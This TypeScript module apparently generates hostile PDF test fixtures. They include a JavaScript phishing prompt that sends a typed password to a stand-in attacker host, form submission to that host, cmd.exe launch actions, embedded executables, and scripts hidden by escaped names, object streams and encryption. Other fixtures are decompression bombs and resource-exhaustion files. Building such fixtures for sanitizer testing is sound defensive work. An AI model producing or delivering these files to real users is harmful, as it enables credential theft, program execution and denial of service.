import { deflateSync } from "node:zlib";
import { type PdfObject, writePdf } from "./write-pdf.ts";

/** Where a hostile file wants to send the reader, or what they type. Nothing ever answers there. */
export const attackerUrl = "https://attacker.example/collect";

const script =
  "app.alert({cMsg: 'Your session has ended. Please enter your password to continue.'});" +
  "var secret = app.response({cQuestion: 'Password'});" +
  `app.launchURL('${attackerUrl}?' + secret, true); this.submitForm('${attackerUrl}');`;
const runScript = `<< /S /JavaScript /JS (${script.replace(/[()\\]/g, "\\$&")}) >>`;
const openUrl = `<< /S /URI /URI (${attackerUrl}) >>`;
const wholePage = "/Rect [0 0 612 792]";

interface Page {
  /** Further entries of the catalog and of the only page. */
  readonly catalog?: string;
  readonly page?: string;
  readonly mediaBox?: string;
  readonly content?: PdfObject;
  /** From number 6 on. */
  readonly more?: readonly PdfObject[];
}

const text = (words: string) =>
  ({ dictionary: "", content: Buffer.from(`BT /F1 24 Tf 72 700 Td (${words}) Tj ET`) }) as const;

/** One page that looks like a certificate, with something more in it. */
function objectsOf({
  catalog = "",
  page = "",
  mediaBox = "0 0 612 792",
  content,
  more = [],
}: Page) {
  return [
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    `<< /Type /Page /Parent 2 0 R /MediaBox [${mediaBox}] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> ${page} >>`,
    content ?? text("Certificate of incorporation"),
    "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ...more,
  ];
}

const pdf = (page: Page) => writePdf({ objects: objectsOf(page) });
const javaScriptOnOpen = { catalog: `/OpenAction ${runScript}` };

/** A name in which every letter is escaped, as ISO 32000-2, 7.3.5 allows. */
const escaped = (name: string) =>
  `/${[...name].map((letter) => `#${letter.charCodeAt(0).toString(16)}`).join("")}`;

const embeddedFile: PdfObject = {
  dictionary: "/Type /EmbeddedFile",
  content: Buffer.from("MZ this is a program"),
};
const form = (field: string, more = ""): Page => ({
  catalog: `/AcroForm << /Fields [6 0 R] ${more} >>`,
  page: "/Annots [6 0 R]",
  more: [`<< /Type /Annot /Subtype /Widget ${wholePage} /T (password) ${field} >>`],
});
const xfa =
  '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="a" layout="tb"><pageSet><pageArea><contentArea/><medium short="612pt" long="792pt"/></pageArea></pageSet><field name="password"><ui><textEdit/></ui><event activity="initialize"><script contentType="application/x-javascript">app.alert("Please enter your password")</script></event></field></subform></template></xdp:xdp>';

/** Every way of acting: one action after another when it opens, and a form, a link and a film over its page. */
const allAtOnce: Page = {
  catalog:
    `/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) /Next [<< /S /Launch /F (cmd.exe) >> ${openUrl} ` +
    `<< /S /GoToR /F (${attackerUrl}.pdf) /D [0 /Fit] >> << /S /ImportData /F (${attackerUrl}.fdf) >>] >> ` +
    `/Names << /JavaScript << /Names [(start) ${runScript}] >> /EmbeddedFiles << /Names [(setup.exe) 11 0 R] >> >> ` +
    "/AcroForm << /Fields [6 0 R] /XFA 9 0 R >>",
  page: `/AA << /O ${runScript} >> /Annots [6 0 R 7 0 R 8 0 R]`,
  more: [
    `<< /Type /Annot /Subtype /Widget ${wholePage} /T (password) /FT /Btn /Ff 65536 /A << /S /SubmitForm /F (${attackerUrl}) >> >>`,
    `<< /Type /Annot /Subtype /Link ${wholePage} /Border [0 0 0] /A ${openUrl} >>`,
    `<< /Type /Annot /Subtype /RichMedia ${wholePage} /RichMediaContent << /Assets << /Names [(player.swf) 11 0 R] >> >> >>`,
    { dictionary: "", content: Buffer.from(xfa) },
    embeddedFile,
    "<< /Type /Filespec /F (setup.exe) /EF << /F 10 0 R >> >>",
  ],
};

/** Files that act when a viewer with scripts, links or forms opens them; all of them are valid. */
export const activePdfs = {
  "JavaScript when it opens": () => pdf(javaScriptOnOpen),
  "JavaScript when its page opens": () => pdf({ page: `/AA << /O ${runScript} >>` }),
  "JavaScript among its names": () =>
    pdf({ catalog: `/Names << /JavaScript << /Names [(start) ${runScript}] >> >>` }),
  "JavaScript with escaped names": () =>
    pdf({ catalog: `/OpenAction ${runScript.replaceAll("/JavaScript", escaped("JavaScript"))}` }),
  "JavaScript in an object stream": () =>
    writePdf({ objects: objectsOf(javaScriptOnOpen), compress: true }),
  "JavaScript in an encrypted file": () =>
    writePdf({ objects: objectsOf(javaScriptOnOpen), compress: true, userPassword: "" }),
  "a program that is started": () =>
    pdf({ catalog: "/OpenAction << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) >> >>" }),
  "a form that is sent": () =>
    pdf(form(`/FT /Btn /Ff 65536 /A << /S /SubmitForm /F (${attackerUrl}) >>`)),
  "a link over the whole page": () =>
    pdf({
      page: "/Annots [6 0 R]",
      more: [`<< /Type /Annot /Subtype /Link ${wholePage} /Border [0 0 0] /A ${openUrl} >>`],
    }),
  "a link that opens by itself": () => pdf({ catalog: `/OpenAction ${openUrl}` }),
  "an attached program": () =>
    pdf({
      catalog: "/Names << /EmbeddedFiles << /Names [(setup.exe) 7 0 R] >> >>",
      more: [embeddedFile, "<< /Type /Filespec /F (setup.exe) /EF << /F 6 0 R >> >>"],
    }),
  "an XFA form": () =>
    pdf({
      ...form("/FT /Tx", "/XFA 7 0 R"),
      more: [...(form("/FT /Tx").more ?? []), { dictionary: "", content: Buffer.from(xfa) }],
    }),
  "a document elsewhere": () =>
    pdf({ catalog: `/OpenAction << /S /GoToR /F (${attackerUrl}.pdf) /D [0 /Fit] >>` }),
  "data from elsewhere": () =>
    pdf({ catalog: `/OpenAction << /S /ImportData /F (${attackerUrl}.fdf) >>` }),
  "a film with a player of its own": () =>
    pdf({
      page: "/Annots [6 0 R]",
      more: [
        `<< /Type /Annot /Subtype /RichMedia ${wholePage} /RichMediaContent << /Assets << /Names [(player.swf) 8 0 R] >> >> >>`,
        embeddedFile,
        "<< /Type /Filespec /F (player.swf) /EF << /F 7 0 R >> >>",
      ],
    }),
  "all of that at once": () => pdf(allAtOnce),
} satisfies Record<string, () => Buffer>;

/** A form that draws the next one ten times, nine levels deep: a thousand million squares. */
function nestedForms(levels: number): PdfObject[] {
  return Array.from({ length: levels }, (_, level) => ({
    dictionary: `/Type /XObject /Subtype /Form /BBox [0 0 612 792] /Resources << /XObject << /X ${7 + level} 0 R >> >>`,
    content: Buffer.from(level === levels - 1 ? "0 0 9 9 re f" : "/X Do ".repeat(10)),
  }));
}

/** Files that want a reader's memory or time. */
export const exhaustingPdfs = {
  "a page of 30 kilometres": () => pdf({ mediaBox: "0 0 99999999 99999999" }),
  "a page like a thread": () => pdf({ mediaBox: "0 0 1 14400" }),
  "two thousand million pages": () => {
    const objects = objectsOf({});
    objects[1] = "<< /Type /Pages /Kids [3 0 R] /Count 2000000000 >>";
    return writePdf({ objects });
  },
  "a page tree that contains itself": () => {
    const objects = objectsOf({});
    objects[1] = "<< /Type /Pages /Kids [2 0 R 2 0 R 3 0 R] /Count 3 >>";
    return writePdf({ objects });
  },
  "drawings within drawings": () =>
    pdf({
      page: "/Resources << /XObject << /X 6 0 R >> >>",
      content: { dictionary: "", content: Buffer.from("/X Do ".repeat(10)) },
      more: nestedForms(9),
    }),
  "a gigabyte in a megabyte": () =>
    pdf({
      content: {
        dictionary: "/Filter [/FlateDecode /FlateDecode]",
        content: deflateSync(deflateSync(Buffer.alloc(256 * 1024 * 1024, "0 0 9 9 re f "))),
      },
    }),
} satisfies Record<string, () => Buffer>;

/** A file of this many pages, each with its number. */
export function pdfOfPages(count: number): Buffer {
  const pages = Array.from({ length: count }, (_, index) => index);
  return writePdf({
    objects: [
      "<< /Type /Catalog /Pages 2 0 R >>",
      `<< /Type /Pages /Kids [${pages.map((page) => `${4 + 2 * page} 0 R`).join(" ")}] /Count ${count} >>`,
      "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
      ...pages.flatMap((page): PdfObject[] => [
        `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents ${5 + 2 * page} 0 R /Resources << /Font << /F1 3 0 R >> >> >>`,
        text(`Page ${page + 1}`),
      ]),
    ],
  });
}

/** Readable only with the password. */
export const lockedPdf = () =>
  writePdf({ objects: objectsOf(javaScriptOnOpen), compress: true, userPassword: "secret" });

/** Begins and ends like a PDF, but is not one. */
export const damagedPdf = () =>
  Buffer.from("%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n");

/** The scripted action of number 6 is followed by a harmless one of the same number. */
export function replacedObjectPdf(): Buffer {
  const hidden = writePdf({
    objects: objectsOf({ catalog: "/OpenAction 6 0 R", more: [runScript] }),
    compress: true,
  });
  return Buffer.concat([hidden, Buffer.from("6 0 obj\n[3 0 R /Fit]\nendobj\n%%EOF\n")]);
}

/** No program that we know reads such an object stream, but one may. */
export function unreadableObjectStreamPdf(): Buffer {
  return pdf({
    more: [
      {
        dictionary: "/Type /ObjStm /N 1 /First 4 /Filter /FilterOfTomorrow",
        content: Buffer.from("7 0 something"),
      },
    ],
  });
}

/** A stream of 256 MB, packed and then written in hexadecimal digits. */
export function filteredBombPdf(): Buffer {
  const packed = deflateSync(Buffer.alloc(256 * 1024 * 1024, " "));
  return pdf({
    content: {
      dictionary: "/Filter [/ASCIIHexDecode /FlateDecode]",
      content: Buffer.from(`${packed.toString("hex")}>`),
    },
  });
}

/** An action among the bytes of a stream, where a cross-reference table may point a viewer. */
export function objectInStreamPdf(): Buffer {
  return pdf({
    more: [{ dictionary: "", content: Buffer.from(`\n9 0 obj\n${runScript}\nendobj\n`) }],
  });
}

/** Ten pictures of 39 million pixels, each of which may be drawn. */
export function manyPicturesPdf(): Buffer {
  const side = 6_244;
  const picture: PdfObject = {
    dictionary: `/Type /XObject /Subtype /Image /Width ${side} /Height ${side} /ColorSpace /DeviceRGB /BitsPerComponent 8 /Filter /FlateDecode`,
    content: deflateSync(Buffer.alloc(side * side * 3, 200)),
  };
  return pdf({ more: Array.from({ length: 10 }, () => picture) });
}

/** An object stream that unpacks to 256 MB, by a filter that is named only afterwards. */
export function objectStreamBombPdf(): Buffer {
  return pdf({
    more: [
      {
        dictionary: "/Type /ObjStm /N 1 /First 4 /Filter 7 0 R",
        content: deflateSync(Buffer.alloc(256 * 1024 * 1024, " ")),
      },
      "/FlateDecode",
    ],
  });
}

/** A stream of 256 MB, packed twice by filters of which one is named in another object, or all are. */
export function indirectFilterPdf(filters: string, other: string): Buffer {
  const packed = deflateSync(deflateSync(Buffer.alloc(256 * 1024 * 1024, " ")));
  return pdf({ content: { dictionary: `/Filter ${filters}`, content: packed }, more: [other] });
}

/**
 * A script in an object stream that doesn't say it is one: viewers find the object by the
 * cross-reference stream, and ask for no name.
 */
export function unnamedObjectStreamPdf(): Buffer {
  const inside = deflateSync(Buffer.from(`10 0 << /JavaScript << /Names [(a) ${runScript}] >> >>`));
  const stream = (dictionary: string, content: Buffer) =>
    `<< ${dictionary} /Length ${content.length} >>\nstream\n${content.toString("latin1")}\nendstream`;
  const bodies = [
    "<< /Type /Catalog /Pages 2 0 R /Names 10 0 R >>",
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
    stream("/N 1 /First 5 /Filter /FlateDecode", inside),
  ];
  let file = "%PDF-1.7\n";
  const rows = [Buffer.from([0, 0, 0, 0])];
  const row = (type: number, place: number, index = 0) =>
    Buffer.from([type, place >> 8, place & 255, index]);
  for (const [at, body] of bodies.entries()) {
    rows.push(row(1, file.length));
    file += `${at + 1} 0 obj\n${body}\nendobj\n`;
  }
  for (let free = 5; free < 10; free += 1) rows.push(row(0, 0));
  rows.push(row(2, 4), row(1, file.length));
  const table = stream("/Type /XRef /Size 12 /W [1 2 1] /Root 1 0 R", Buffer.concat(rows));
  file += `11 0 obj\n${table}\nendobj\nstartxref\n${file.length}\n%%EOF\n`;
  return Buffer.from(file, "latin1");
}

/** A picture of 100,000 by 100,000 pixels. */
export function oversizedPicturePdf(): Buffer {
  return pdf({
    page: "/Annots []",
    more: [
      {
        dictionary:
          "/Type /XObject /Subtype /Image /Width 100000 /Height 100000 /ColorSpace /DeviceGray /BitsPerComponent 1 /Filter /FlateDecode",
        content: deflateSync(Buffer.alloc(1000)),
      },
    ],
  });
}
